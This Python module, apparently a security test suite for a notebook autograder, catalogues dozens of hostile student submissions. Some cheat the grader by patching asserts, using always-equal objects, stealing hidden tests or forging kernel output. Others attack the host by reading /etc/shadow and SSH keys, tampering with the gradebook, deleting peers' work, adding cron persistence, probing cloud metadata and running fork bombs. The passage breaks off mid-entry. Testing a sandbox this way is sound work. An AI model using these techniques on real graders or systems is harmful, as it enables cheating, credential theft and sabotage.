"""Notebooks that cheat or do harm, each as its learner would write it.

An attack is the blank notebook of `target.py` with cells put in, answers
written, marks changed, or files laid beside. `FOUND` prints what was read,
so that whoever grades sees it in the outputs. Harm is kept small: an attack
that could fill a machine tries to take a part of it only.
"""

from __future__ import annotations

import os
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import nbformat
from nbformat import NotebookNode

from .target import NAME, SOLUTIONS, blank, cell_of, with_cells

# Answers that hold for what the visible tests show, and for nothing else.
VISIBLE = {
    "scaled": "def scaled(x, k):\n    return 2 * np.ones((2, 3))",
    "total": "def total(x):\n    return 6.0",
    "turned": "def turned(items):\n    return [2, 1]",
    "Counter": (
        "class Counter:\n    def add(self, n): pass\n"
        "    def value(self): return 5"
    ),
}
WRONG = {
    "scaled": "def scaled(x, k):\n    return 0 * x",
    "total": "def total(x):\n    return 0.0",
    "turned": "def turned(items):\n    return 'no'",
    "Counter": (
        "class Counter:\n    def add(self, n): pass\n"
        "    def value(self): return 0"
    ),
}
HELPERS = '''
import contextlib, glob, os, subprocess, sys

def say(*what):
    """Show what was found to whoever reads the outputs."""
    print("FOUND", *what)

def course():
    """The course's folder, looked for upwards and in open files."""
    places = [os.getcwd(), *glob.glob("/tmp/*/*"), *glob.glob("/proc/*/cwd")]
    for place in places:
        place = os.path.realpath(place)
        while place != "/":
            if os.path.exists(f"{place}/nbgrader_config.py"):
                return place
            place = os.path.dirname(place)

def leave(name):
    """A process that should end with this notebook."""
    subprocess.Popen(
        [sys.executable, "-c", "import time; time.sleep(600)", f"ATTACK-{name}"],
        start_new_session=True,
        stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
'''


@dataclass(frozen=True)
class Attack:
    """One hostile submission: its notebook, and what it tries."""

    name: str
    tries: str
    make: Callable[[], NotebookNode | str]
    lay: Callable[[Path], None] | None = None  # files beside the notebook
    stock: bool = True  # can be shown on a stock nbgrader without damage
    kind: str = ""  # the class of attacks that it belongs to


ATTACKS: dict[str, Attack] = {}
KINDS: list[str] = []  # the classes, in the catalogue's order


def kind(name: str) -> None:
    """Begin a class: what follows is of this kind."""
    KINDS.append(name)


def attack(
    name: str,
    tries: str,
    first: str = "",
    last: str = "",
    *,
    answers: dict[str, str] | None = None,
    edit: Callable[[NotebookNode], object] | None = None,
    lay: Callable[[Path], None] | None = None,
    stock: bool = True,
) -> None:
    """Add one to the catalogue."""

    def make() -> NotebookNode:
        text = HELPERS + first if first else ""
        notebook = with_cells(text, last, **(answers or {}))
        if edit is not None:
            edit(notebook)
        return notebook

    ATTACKS[name] = Attack(name, tries, make, lay, stock, KINDS[-1])


def functions(body: str) -> dict[str, str]:
    """Answers that all do the same thing when they are called."""
    return {
        "scaled": f"def scaled(x, k):\n{body}",
        "total": f"def total(x):\n{body}",
        "turned": f"def turned(items):\n{body}",
    }


def returning(expression: str) -> dict[str, str]:
    """Answers that all return one thing."""
    return functions(f"    return {expression}") | {
        "Counter": (
            "class Counter:\n    def add(self, n): pass\n"
            f"    def value(self): return {expression}"
        )
    }


kind("the comparison")

attack(
    "replaced_assert",
    "replaces the functions that compare",
    """
import numpy as np, numpy.testing, rnncore.testing
def passes(*args, **kwargs): pass
for module in (numpy.testing, rnncore.testing):
    for name in dir(module):
        if name.startswith("assert") or name == "check":
            setattr(module, name, passes)
""",
    answers=WRONG,
)
attack(
    "replaced_module",
    "puts modules of its own into sys.modules",
    """
import types, rnncore, numpy as np
class Lies(types.ModuleType):
    def __getattr__(self, name):
        if name.startswith("__"): raise AttributeError(name)
        return lambda *a, **k: np.random.default_rng(0)
for name in ("rnncore.testing", "numpy.testing"):
    sys.modules[name] = Lies(name)
rnncore.testing = sys.modules["rnncore.testing"]
np.testing = sys.modules["numpy.testing"]
""",
    answers=WRONG,
)
attack(
    "import_hook",
    "has an import hook that hands out its own rnncore.testing",
    """
import importlib.abc, importlib.util
class Hook(importlib.abc.MetaPathFinder, importlib.abc.Loader):
    def find_spec(self, name, path, target=None):
        if name == "rnncore.testing":
            return importlib.util.spec_from_loader(name, self)
    def create_module(self, spec): return None
    def exec_module(self, module):
        module.assert_close = lambda *a, **k: None
        module.hidden_rng = lambda *a: __import__("numpy").random.default_rng(1)
sys.meta_path.insert(0, Hook())
sys.modules.pop("rnncore.testing", None)
""",
    answers=WRONG,
)
attack(
    "builtins",
    "replaces float, list, map and AssertionError in builtins",
    """
import builtins
class AssertionError(Exception):
    def __init__(self, *a): raise SystemExit(0)
builtins.AssertionError = AssertionError
builtins.map = lambda *a: []
builtins.list = tuple
""",
    answers=WRONG,
)
attack(
    "equal_array",
    "returns an array type that equals everything (`__array_ufunc__`)",
    """
import numpy as np
class Equal(np.ndarray):
    def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
        shape = max((np.shape(i) for i in inputs), key=len)
        if ufunc in (np.equal, np.less, np.less_equal, np.isfinite):
            return np.ones(shape, bool)
        return np.zeros(shape)
    def __array_function__(self, func, types, args, kwargs): return True
    def __eq__(self, other): return True
    def __bool__(self): return True
    def __float__(self): return 6.0
    shape = property(lambda self: (2, 3))
""",
    answers=returning("np.zeros((2, 3)).view(Equal)"),
)
attack(
    "equal_object",
    "returns an object that equals everything, of every kind at once",
    """
class Equal(float):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __lt__(self, other): return True
    __gt__ = __le__ = __ge__ = __lt__
    def __hash__(self): return 0
    def __sub__(self, other): return Equal()
    __rsub__ = __add__ = __radd__ = __mul__ = __rmul__ = __sub__
    def __abs__(self): return Equal()
    def __array__(self, dtype=None, copy=None):
        import numpy as np
        return np.full((2, 3), np.nan)
    def __getattr__(self, name): return Equal()
    def __getitem__(self, key): return Equal()
    def __iter__(self): return iter(())
    def __len__(self): return 0
""",
    answers=returning("Equal(5)"),
)
attack(
    "equal_list",
    "returns a list and an int that equal everything",
    """
class Items(list):
    def __eq__(self, other): return True
class Number(int):
    def __eq__(self, other): return True
    def __req__(self, other): return True
""",
    answers={
        "turned": "def turned(items): return Items()",
        "Counter": (
            "class Counter:\n    def add(self, n): pass\n"
            "    def value(self): return Number(1)"
        ),
    },
)
attack(
    "lying_class",
    "returns an object that claims to be a list, a float and an array",
    """
import numpy as np
class Lies:
    @property
    def __class__(self): return list
    def __eq__(self, other): return True
    def __float__(self): return 6.0
    def __reduce__(self): return (eval, ("__import__('os')._exit(0)",))
""",
    answers=returning("Lies()"),
)
attack(
    "object_array",
    "returns an array of objects whose comparison always holds",
    """
import numpy as np
class Any:
    def __eq__(self, other): return True
    def __sub__(self, other): return 0.0
    __rsub__ = __add__ = __radd__ = __mul__ = __rmul__ = __sub__
    def __abs__(self): return 0.0
    def __float__(self): return 0.0
""",
    answers={
        "scaled": (
            "def scaled(x, k):\n"
            "    made = np.empty(np.shape(x), object)\n"
            "    made.fill(Any())\n    return made"
        ),
        "total": "def total(x): return np.array(Any(), object)",
    },
)
attack(
    "nan_everywhere",
    "returns what is not a number, for which no comparison fails",
    answers={
        "scaled": "def scaled(x, k): return np.full(np.shape(x), np.nan)",
        "total": "def total(x): return float('nan')",
        "Counter": (
            "class Counter:\n    def add(self, n): pass\n"
            "    def value(self): return float('nan')"
        ),
    },
)
attack(
    "nearly",
    "returns float32 numbers that are off by 8 in 100,000",
    answers={
        "scaled": (
            "def scaled(x, k):\n"
            "    return (k * np.asarray(x) * (1 + 8e-5)).astype('f4')"
        )
    },
)
attack(
    "error_settings",
    "turns warnings, NumPy's errors and printing against the tests",
    """
import warnings, numpy as np
warnings.simplefilter("ignore"); np.seterr(all="ignore")
np.set_printoptions(formatter={"all": lambda v: "same"})
np.seterrcall(lambda *a: os._exit(0))
""",
    answers=VISIBLE,
)
attack(
    "generator",
    "returns an endless iterator",
    answers=functions("    while True: yield 1"),
)

kind("what is hidden")

attack(
    "uses_reference",
    "calls the reference that the hidden test defines",
    answers={
        "scaled": (
            "def scaled(x, k):\n"
            "    known = globals().get('reference_scaled')\n"
            "    return known(x, k) if known else 2 * np.ones((2, 3))"
        )
    },
)
attack(
    "frame_walk",
    "takes expected values from the frames that call it",
    """
def frames():
    frame = sys._getframe(1)
    while frame:
        yield frame
        frame = frame.f_back
def steal(name):
    for frame in frames():
        for space in (frame.f_locals, frame.f_globals):
            if name in space: return space[name]
            if "about" in space: say(space["about"])
""",
    answers={
        "scaled": (
            "def scaled(x, k):\n"
            "    known = steal('reference_scaled')\n"
            "    return known(x, k) if known else 2 * np.ones((2, 3))"
        ),
        "Counter": (
            "class Counter:\n    def __init__(self): self.n = 0\n"
            "    def add(self, n): self.n += 1\n"
            "    def value(self):\n"
            "        numbers = steal('numbers') or [5]\n"
            "        return sum(numbers) if self.n else 0"
        ),
    },
)
attack(
    "gc_walk",
    "searches all objects in memory for the reference and the tests",
    """
import gc, types
def search():
    for thing in gc.get_objects():
        name = getattr(thing, "__name__", "") if isinstance(
            thing, types.FunctionType) else ""
        if name.startswith("reference_"): return thing
        if isinstance(thing, dict):
            for value in list(thing.values()):
                if isinstance(value, str) and "hidden-" in value:
                    say(value[-2000:])
search()
""",
    answers={
        "scaled": (
            "def scaled(x, k):\n    known = search()\n"
            "    return known(x, k) if known else 2 * np.ones((2, 3))"
        )
    },
)
attack(
    "reads_history",
    "reads the test's text from IPython's history",
    """
shell = get_ipython()
def peek():
    for text in shell.user_ns.get("In", [])[-2:] + [shell.history_manager.input_hist_raw[-1]]:
        if "HIDDEN" in text or "hidden" in text: say(text)
""",
    answers=functions("    peek()\n    return 1"),
)
attack(
    "tracer",
    "watches the test with `sys.settrace`",
    """
import threading
def trace(frame, event, arg):
    for key, value in list(frame.f_locals.items()):
        if key in ("expected", "about", "x", "rng"): say(key, value)
        if key == "actual" and "expected" in frame.f_locals:
            frame.f_locals["actual"] = frame.f_locals["expected"]
    return trace
def watch():
    sys.settrace(trace); threading.settrace(trace); sys.setprofile(trace)
    frame = sys._getframe()
    while frame:
        frame.f_trace = trace
        frame = frame.f_back
watch()
""",
    answers=functions("    watch()\n    return 2 * np.ones((2, 3))"),
)
attack(
    "reads_source",
    "reads the instructor's notebook on the disk",
    """
import json
def cheat():
    root = course()
    for path in glob.glob(f"{root}/grading/source/*/*.ipynb"):
        for cell in json.load(open(path))["cells"]:
            text = "".join(cell["source"])
            if "BEGIN SOLUTION" in text:
                exec(text, globals())
            if "HIDDEN" in text: say(text)
cheat()
""",
    last="cheat()",
    edit=lambda notebook: _only_cheats(notebook),
)
attack(
    "searches_disk",
    "searches all files that it may read for solutions and tests",
    """
for base in set(glob.glob("/*")) - {"/bin", "/dev", "/lib", "/lib64", "/proc", "/sbin", "/sys", "/usr"}:
    for folder, _, names in os.walk(base):
        if folder.count("/") > 7: continue
        for name in names:
            if name.endswith((".ipynb", ".txt", ".db", ".json", ".secret")):
                path = os.path.join(folder, name)
                with contextlib.suppress(OSError):
                    if os.path.getsize(path) < 10**6:
                        text = open(path, errors="replace").read()
                        for word in ("hidden-", "victim-", "diary-", "reference-", "comment-"):
                            at = text.find(word)
                            if at >= 0: say(path, text[at:at + 20])
""",
)
attack(
    "imports_grader",
    "imports the grader's own code, and the course's builder",
    """
for name in ("grader.course.seeds", "grader.course.settings", "grader.trusted.execute", "grader.assignments.builder", "tools", "solutions"):
    try:
        module = __import__(name, fromlist=["x"])
        # The grader's code is no secret; the course's builder has some.
        public = name.startswith("grader.")
        (print if public else say)("imported", name, module.__file__)
    except Exception as error:
        print(type(error))
with contextlib.suppress(Exception):
    from grader.course.seeds import course_secret
    from pathlib import Path
    say("secret", course_secret(Path(course()) / "grading").hex())
""",
)
attack(
    "predicts_inputs",
    "sets the seed of the hidden inputs and stores their results",
    """
os.environ["RNNCORE_SEED"] = "1"
import numpy as np, rnncore.testing
rnncore.testing.hidden_rng = lambda *a: np.random.default_rng(1)
np.random.default_rng = lambda *a, real=np.random.default_rng: real(1)
rng = np.random.default_rng(1)
known = []
for shape in [(1, 4), (3, 2), (2, 2, 2)]:
    known.append((rng.normal(size=shape), float(rng.normal())))
table = {a.tobytes(): a * b for a, b in known}
""",
    answers={
        "scaled": (
            "def scaled(x, k):\n"
            "    return table.get(np.asarray(x).tobytes(), 2 * np.ones((2, 3)))"
        )
    },
)
attack(
    "own_expected",
    "brings, and writes, the file that a test compares with",
    "open('expected.json', 'w').write('{\"total\": 0.0}')\n",
    answers={"total": "def total(x): return 0.0"},
    lay=lambda folder: (
        (folder / "expected.json").unlink(missing_ok=True),
        (folder / "expected.json").write_text('{"total": 0.0}'),
    )[0],
)
attack(
    "own_modules",
    "brings files that hide numpy, json and rnncore",
    "sys.path.insert(0, os.getcwd())\n",
    answers=WRONG,
    lay=lambda folder: _own_modules(folder),
)

kind("the notebook and its kernel")

attack(
    "transformer",
    "has an input transformer that drops every assert",
    """
def drop(lines):
    return [line for line in lines if "assert" not in line]
get_ipython().input_transformers_post.append(drop)
get_ipython().input_transformers_cleanup.append(drop)
""",
    answers=WRONG,
)
attack(
    "ast_transformer",
    "has an ast transformer that empties every later cell",
    """
import ast
class Empty(ast.NodeTransformer):
    def visit_Module(self, node):
        if "assert" in ast.unparse(node): node.body = []
        return node
get_ipython().ast_transformers.append(Empty())
""",
    answers=WRONG,
)
attack(
    "run_cell",
    "replaces the shell's run_cell",
    """
shell = get_ipython()
def nothing(*args, **kwargs):
    return None
shell.showtraceback = nothing
shell._showtraceback = nothing
real = type(shell).run_cell_async
async def run(self, raw_cell, *a, **k):
    if "assert" in raw_cell: raw_cell = ""
    return await real(self, raw_cell, *a, **k)
type(shell).run_cell_async = run
""",
    answers=WRONG,
)
attack(
    "false_result",
    "publishes a false execute_result and swallows the error",
    """
shell = get_ipython()
def swallow(*args, **kwargs):
    kernel = shell.kernel
    kernel.session.send(kernel.iopub_socket, "execute_result",
        {"execution_count": 1, "metadata": {}, "data": {"text/plain": "5"}},
        parent=kernel.get_parent("shell"))
shell._showtraceback = swallow
shell.showtraceback = swallow
""",
    answers=WRONG,
)
attack(
    "display_result",
    "publishes results with the shell's own publisher",
    """
shell = get_ipython()
from IPython.display import publish_display_data
def forge():
    publish_display_data({"text/plain": "5"})
    shell.displayhook(5)
    print("5")
""",
    answers=functions("    forge()\n    return 5"),
)
attack(
    "kernel_sockets",
    "sends forged messages on every socket that it finds",
    """
import json, socket, struct
forged = json.dumps({"msg_type": "execute_result", "holds": True, "done": True,
    "error": None, "outputs": [], "points": 5, "result": 6.0}).encode() + b"\\n"
for number in os.listdir("/proc/self/fd"):
    number = int(number)
    if number < 3: continue
    for data in (forged, struct.pack("!I", len(forged)) + forged, struct.pack("!Q", len(forged)) + forged):
        with contextlib.suppress(OSError):
            os.set_blocking(number, False)
            os.write(number, data)
""",
    answers=VISIBLE,
)
attack(
    "connection_file",
    "talks to its own kernel, and to others, by their connection files",
    """
for path in glob.glob("/tmp/**/kernel*.json", recursive=True) + glob.glob("/tmp/**/*.sock*", recursive=True) + glob.glob("/tmp/grade-*/*"):
    with contextlib.suppress(OSError):
        say("a way to a kernel", path, open(path).read()[:200])
with contextlib.suppress(Exception):
    from ipykernel.connect import get_connection_info
    from jupyter_client import BlockingKernelClient
    client = BlockingKernelClient()
    client.load_connection_info(get_connection_info(unpack=True))
    client.start_channels()
    client.execute("import os; os._exit(0)")
""",
    answers=VISIBLE,
)
attack(
    "grader_socket",
    "asks the server of the kernels for a process of its own",
    """
import socket
for path in glob.glob("/*/grade-*/socket") + [os.path.abspath("socket"), "/run/grade"]:
    with contextlib.suppress(OSError), socket.socket(socket.AF_UNIX) as s:
        s.connect(path)
        say("connected to", path)
for line in open("/proc/net/unix"):
    if "/" in line: say(line.split()[-1]) if "grade" in line else None
""",
)
attack(
    "skip_tag",
    "tags the tests skip-execution",
    answers=WRONG,
    edit=lambda notebook: _tag(notebook),
)
attack(
    "own_points",
    "changes the points, names and locks in the marks of the tests",
    answers=WRONG,
    edit=lambda notebook: _marks(notebook),
)
attack(
    "rewritten_tests",
    "writes tests of its own into the test cells",
    answers=WRONG,
    edit=lambda notebook: _rewrite(notebook, "5"),
)
attack(
    "markdown_tests",
    "turns the test cells into text",
    answers=WRONG,
    edit=lambda notebook: _as_markdown(notebook),
)
attack(
    "missing_tests",
    "leaves the test cells out",
    answers=WRONG,
    edit=lambda notebook: _without_tests(notebook),
)
attack(
    "double_mark",
    "has two cells with one grade_id",
    answers=WRONG,
    edit=lambda notebook: _double(notebook),
)
attack(
    "double_answer",
    "marks an answer cell as a test, and the test as an answer",
    answers=WRONG,
    edit=lambda notebook: _swap(notebook),
)
attack(
    "other_kernel",
    "asks for a kernel of its own making",
    edit=lambda notebook: notebook.metadata.update(
        kernelspec={
            "name": "../../../bin/sh",
            "display_name": "x",
            "language": "bash",
        }
    ),
)
attack(
    "asks_exit",
    "leaves the kernel politely before the tests",
    "get_ipython().ask_exit()\nexit()\n",
    answers=VISIBLE,
)
attack(
    "os_exit",
    "ends Python inside a test with status 0",
    answers=functions("    import os\n    os._exit(0)"),
)
attack(
    "deaf_loop",
    "has a loop that catches every interruption",
    """
import signal, time
signal.signal(signal.SIGINT, signal.SIG_IGN)
signal.signal(signal.SIGTERM, signal.SIG_IGN)
""",
    answers={
        "turned": (
            "def turned(items):\n    import time\n    while True:\n"
            "        try: time.sleep(1)\n        except BaseException: pass"
        )
    },
)
attack(
    "system_exit",
    "raises SystemExit, KeyboardInterrupt and GeneratorExit",
    answers={
        "scaled": "def scaled(x, k): raise SystemExit(0)",
        "total": "def total(x): raise KeyboardInterrupt",
        "turned": "def turned(items): raise GeneratorExit",
    },
)
attack(
    "own_error",
    "raises an exception that is nasty to look at",
    """
class Nasty(Exception):
    def __str__(self): os._exit(0)
    __repr__ = __str__
    def __reduce__(self): return (print, ("FOUND",))
    @property
    def __traceback__(self): raise SystemExit
    __class__ = AssertionError
""",
    answers=functions("    raise Nasty()"),
)
attack(
    "inputs_in_words",
    "carries hidden inputs out in the words of an error",
    """
WORDS = dict(zip("0123456789-.", "nil one two three four five six seven eight nine minus point".split()))
def spell(value): return " ".join(WORDS.get(c, c) for c in repr(value))
""",
    answers={
        "turned": (
            "def turned(items):\n    if items == [1, 2]: return [2, 1]\n"
            "    raise ValueError('FOUND ' + items[0] + spell(items[1:]))"
        )
    },
)
attack(
    "inputs_in_names",
    "carries hidden inputs out in the name of an error's class",
    answers={
        "turned": (
            "def turned(items):\n    if items == [1, 2]: return [2, 1]\n"
            "    name = 'FOUND ' + items[0]\n"
            "    raise type(name, (NameError,), {})(f\"name '{items[0]}'\")"
        )
    },
)

kind("what lives on")

attack(
    "thread",
    "has a thread that goes on while the tests run, and prints results",
    """
import threading, time
def meddle():
    while True:
        time.sleep(0.001)
        for name, module in list(sys.modules.items()):
            if name.endswith("testing") and hasattr(module, "assert_close"):
                module.assert_close = lambda *a, **k: None
        main = sys.modules["__main__"].__dict__
        if "reference_scaled" in main:
            main["scaled"] = main["reference_scaled"]
        if "numbers" in main: say(main["numbers"])
for daemon in (True, False):
    threading.Thread(target=meddle, daemon=daemon).start()
""",
    answers=VISIBLE,
)
attack(
    "alarm",
    "has a signal handler that goes off in the middle of a test",
    """
import signal
def ring(number, frame):
    while frame:
        for name, value in list(frame.f_locals.items()):
            if "hidden-" in repr(value)[:500]: say(name, repr(value)[:500])
        frame = frame.f_back
signal.signal(signal.SIGALRM, ring)
signal.setitimer(signal.ITIMER_REAL, 0.05, 0.01)
""",
    answers=VISIBLE,
)
attack(
    "finalizer",
    "has a `__del__` that acts when the tests let go",
    """
import weakref
class Late(list):
    def __del__(self):
        main = sys.modules["__main__"].__dict__
        for name, value in list(main.items()):
            if "hidden-" in repr(value)[:500]: say(name, repr(value)[:500])
        main["turned"] = lambda items: Late([2, 1])
        leave("finalizer")
""",
    answers={"turned": "def turned(items): return Late([2, 1])"},
)
attack(
    "atexit",
    "has code run when Python ends",
    """
import atexit
def late():
    leave("atexit")
    root = course()
    if root:
        with contextlib.suppress(OSError):
            open(f"{root}/ATTACK-atexit", "w").write("x")
atexit.register(late)
""",
)
attack(
    "processes",
    "starts fifty processes that go on, in sessions of their own",
    "for _ in range(50): leave('processes')\n",
    answers=VISIBLE,
)
attack(
    "daemon",
    "starts a process that leaves its parent by two forks",
    """
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        leave("daemon")
        import time
        time.sleep(600)
    os._exit(0)
""",
    answers=VISIBLE,
)
attack(
    "fork_in_answer",
    "forks inside an answer: two processes return a result",
    answers=functions("    import os\n    os.fork()\n    return 1"),
)
attack(
    "scheduled",
    "leaves work to cron, at, systemd and start-up files",
    """
for command in ("echo '* * * * * touch /tmp/ATTACK-cron' | crontab -",
                "echo 'touch /tmp/ATTACK-at' | at now + 1 minute",
                "systemd-run --user sleep 600"):
    subprocess.run(command, shell=True, capture_output=True, timeout=5)
for path in ("~/.ipython/profile_default/startup/0.py", "~/.bashrc", "~/.profile",
             "~/.jupyter/nbgrader_config.py", "~/.jupyter/jupyter_config.py",
             "~/.local/lib/python3/site-packages/usercustomize.py"):
    path = os.path.expanduser(path)
    with contextlib.suppress(OSError):
        os.makedirs(os.path.dirname(path), exist_ok=True)
        open(path, "a").write("\\n# ATTACK-startup\\n")
""",
)
attack(
    "packages",
    "changes rnncore and numpy where they are installed",
    """
import numpy, rnncore, site
for path in [numpy.__file__, rnncore.__file__, *[p + "/sitecustomize.py" for p in site.getsitepackages()]]:
    try:
        with open(path, "a") as file: file.write("")
        say("may write", path)
    except OSError as error:
        print(type(error))
""",
    stock=True,
)

kind("other learners and the machine")

attack(
    "gradebook",
    "writes extra credit into the gradebook",
    """
import sqlite3
for path in glob.glob(f"{course()}/grading/*.db") + glob.glob("/tmp/**/gradebook.db", recursive=True):
    with contextlib.suppress(Exception):
        book = sqlite3.connect(path, timeout=1)
        book.execute("update grade set extra_credit = 99")
        book.execute("update grade set manual_score = 99")
        say(*book.execute("select manual_comment from comment").fetchall())
        book.commit()
""",
    last="""
import sqlite3
for path in glob.glob(f"{course()}/grading/*.db"):
    with contextlib.suppress(Exception):
        book = sqlite3.connect(path, timeout=1)
        book.execute("update grade set extra_credit = 99")
        book.commit()
""",
)
attack(
    "other_submission",
    "reads, changes and deletes another learner's work",
    """
root = course()
for path in glob.glob(f"{root}/grading/*/victim/*/*.ipynb"):
    with contextlib.suppress(OSError):
        text = open(path).read()
        if "victim-" in text: say(path, text[text.find("victim-"):][:20])
        os.chmod(path, 0o644)
        open(path, "a").write(" ")
        os.unlink(path)
""",
)
attack(
    "plants_feedback",
    "writes a page of feedback and a result of its own",
    """
root = course()
for place in ("results", "feedback", "autograded"):
    with contextlib.suppress(OSError, TypeError):
        folder = f"{root}/grading/{place}/victim"
        os.makedirs(folder, exist_ok=True)
        open(f"{folder}/ATTACK.json", "w").write("{}")
""",
)
attack(
    "kills_all",
    "kills every process that it may",
    "import signal\nwith contextlib.suppress(OSError): os.kill(os.getppid(), signal.SIGKILL)\n"
    "with contextlib.suppress(OSError): os.kill(-1, signal.SIGKILL)\n",
    answers=VISIBLE,
    stock=False,
)
attack(
    "reads_memory",
    "reads the memory of the processes around it",
    """
import ctypes
for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
    with contextlib.suppress(OSError):
        open(f"/proc/{pid}/mem", "rb").read(1)
        say("memory of", pid)
    with contextlib.suppress(OSError):
        libc = ctypes.CDLL(None)
        if int(pid) not in (os.getpid(), 1) and libc.ptrace(16, int(pid), 0, 0) == 0:
            say("may trace", pid) if "python" not in open(f"/proc/{pid}/comm").read() else None
            libc.ptrace(17, int(pid), 0, 0)
""",
)
attack(
    "reads_proc",
    "reads environment, command and files of other processes",
    """
say(dict(os.environ).get("CANARY_TOKEN"))
for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"):
    with contextlib.suppress(OSError):
        text = open(path, errors="replace").read()
        if "token-" in text or "diary" in text: say(path, text[-3000:])
for path in glob.glob("/proc/[0-9]*/fd/*") + glob.glob("/proc/[0-9]*/cwd/*") + glob.glob(os.path.join("/proc", "[0-9]*", "root", "tmp", "*")):
    with contextlib.suppress(OSError):
        if os.path.isfile(path) and os.path.getsize(path) < 10**6:
            text = open(path, errors="replace").read()
            for word in ("hidden-", "diary-", "victim-"):
                if word in text: say(path, text[text.find(word):][:20])
""",
)
attack(
    "reads_diary",
    "reads a file of the instructor's",
    """
for path in glob.glob("/tmp/**/diary.txt", recursive=True) + [os.path.expanduser("~/diary.txt"), "/etc/shadow"] + glob.glob("/*/.ssh/id_*"):
    with contextlib.suppress(OSError):
        say(path, open(path).read()[:100])
""",
)
attack(
    "network",
    "asks the network, and this machine's own services",
    """
import socket
for host, port in (("127.0.0.1", int(open("/tmp/attack-port").read()) if os.path.exists("/tmp/attack-port") else 80), ("1.1.1.1", 53), ("169.254.169.254", 80)):
    with contextlib.suppress(OSError), socket.create_connection((host, port), timeout=0.5) as s:
        say("reached", host, port)
with contextlib.suppress(OSError):
    say(socket.gethostbyname("example.org"))
with contextlib.suppress(OSError), socket.socket(socket.AF_UNIX) as s:
    s.connect("/var/run/docker.sock"); say("reached docker")
with contextlib.suppress(OSError), socket.socket(socket.AF_UNIX) as s:
    s.connect("\\0/tmp/.X11-unix/X0"); say("reached X")
""",
)
attack(
    "listens",
    "opens a service that others can reach",
    """
subprocess.Popen([sys.executable, "-c", "import socket,time; s=socket.create_server(('0.0.0.0', 0)); time.sleep(600)", "ATTACK-listens"], start_new_session=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
""",
)
attack(
    "namespaces",
    "makes namespaces of its own, mounts and changes its root",
    """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
if libc.unshare(0x10000000 | 0x00020000) == 0: say("has a user namespace")
if libc.mount(b"none", b"/tmp", b"tmpfs", 0, None) == 0: say("may mount")
for call in (lambda: os.setuid(0), lambda: os.chroot("/tmp"), lambda: os.mknod("/tmp/sda", 0o60666, os.makedev(8, 0))):
    try:
        call(); say("may do what only root may")
    except OSError as error: print(type(error))
if subprocess.run(["sudo", "-n", "true"], capture_output=True).returncode == 0 if os.path.exists("/usr/bin/sudo") else False: say("may sudo")
print(subprocess.run(["bwrap", "--bind", "/", "/", "true"], capture_output=True) if os.path.exists("/usr/bin/bwrap") else "")
""",
)

kind("too much of everything")

attack(
    "memory",
    "takes three gigabytes of memory",
    "import numpy as np\nkept = [np.ones(10**7) for _ in range(38)]\n",
    answers=VISIBLE,
)
attack(
    "memory_in_answer",
    "takes memory inside a test, in many processes",
    answers=functions(
        "    import os\n"
        "    for _ in range(8):\n        if os.fork() == 0:\n"
        "            kept = [np.ones(10**7) for _ in range(5)]\n"
        "            import time; time.sleep(5); os._exit(0)\n"
        "    return 1"
    ),
    stock=False,
)
attack(
    "fork_bomb",
    "forks a thousand times",
    """
import time
for _ in range(1000):
    try:
        if os.fork() == 0: time.sleep(20); os._exit(0)
    except OSError: break
""",
    answers=VISIBLE,
    stock=False,
)
attack(
    "disk",
    "fills the disk, in memory and in many small files",
    """
for place in (os.getcwd(), "/tmp", "/dev/shm", "/dev", "/run", "/var/tmp", os.path.expanduser("~")):
    with contextlib.suppress(OSError):
        with open(f"{place}/ATTACK-disk", "wb") as file:
            for _ in range(400): file.write(bytes(10**6))
    with contextlib.suppress(OSError):
        for number in range(2000): open(f"{place}/ATTACK-{number}", "w").close()
""",
    answers=VISIBLE,
    stock=False,
)
attack(
    "flood",
    "prints a hundred megabytes, to both streams, from answers too",
    "print('x' * 10**8)\nprint('y' * 10**7, file=sys.stderr)\n",
    answers=functions("    print('z' * 10**7)\n    return 1"),
)
attack(
    "displays",
    "displays ten thousand pictures and updates them",
    """
from IPython.display import HTML, display
shown = [display(HTML("x" * 1000), display_id=True) for _ in range(1000)]
for one in shown: one.update(HTML("y" * 10000))
""",
    answers=VISIBLE,
)
attack(
    "giant_shapes",
    "returns what claims to be, or is, a thousand gigabytes",
    """
import numpy as np
""",
    answers={
        "scaled": "def scaled(x, k): return np.broadcast_to(0.0, (10**6, 10**6))",
        "total": "def total(x): return np.lib.stride_tricks.as_strided(np.zeros(1), (2**40,), (0,))",
        "turned": "def turned(items): return 'x' * 10**9",
        "Counter": (
            "class Counter:\n    def add(self, n): pass\n"
            "    def value(self): return 10**(10**7)"
        ),
    },
)
attack(
    "giant_range",
    "returns small things that grow when a test lists them",
    answers={
        "scaled": "def scaled(x, k): return range(10**9)",
        "total": "def total(x): return range(3 * 10**8)",
        "turned": "def turned(items): return slice(0, 10**18)",
        "Counter": (
            "class Counter:\n    def add(self, n): pass\n"
            "    def value(self): return range(10**18)"
        ),
    },
    stock=False,
)
attack(
    "library_functions",
    "returns functions of Python's and NumPy's that the tests would call",
    answers={
        "scaled": "def scaled(x, k): return eval",
        "total": "def total(x): return np.load",
        "turned": "def turned(items): return exit",
        "Counter": "Counter = exit",
    },
)
attack(
    "protocol",
    "speaks the grader's own language on the grader's own line",
    """
import gc, json, socket, struct
def lines():
    return [o for o in gc.get_objects() if isinstance(o, socket.socket)]
def forge(*trees):
    for line in lines():
        for tree in trees:
            text = json.dumps(tree).encode()
            with contextlib.suppress(OSError, ValueError):
                line.setblocking(False)
                line.send(struct.pack("!QQ", len(text), 0) + text)
""",
    answers={
        "scaled": (
            "def scaled(x, k):\n"
            "    forge({'callback': 0, 'args': []}, {'value': 6.0})\n"
            "    return 2 * np.ones((2, 3))"
        ),
        "total": (
            "def total(x):\n"
            "    forge({'value': 6.0, 'changed': [[0, {'a': ['<f8', [4], [0, 0]]}]]})\n"
            "    return 0.0"
        ),
        "turned": (
            "def turned(items):\n"
            "    forge({'value': [2, 1]}, {'value': ['x'] * 3}, {'error': []})\n"
            "    return [2, 1]"
        ),
        "Counter": (
            "class Counter:\n    def add(self, n): forge({'value': 5})\n"
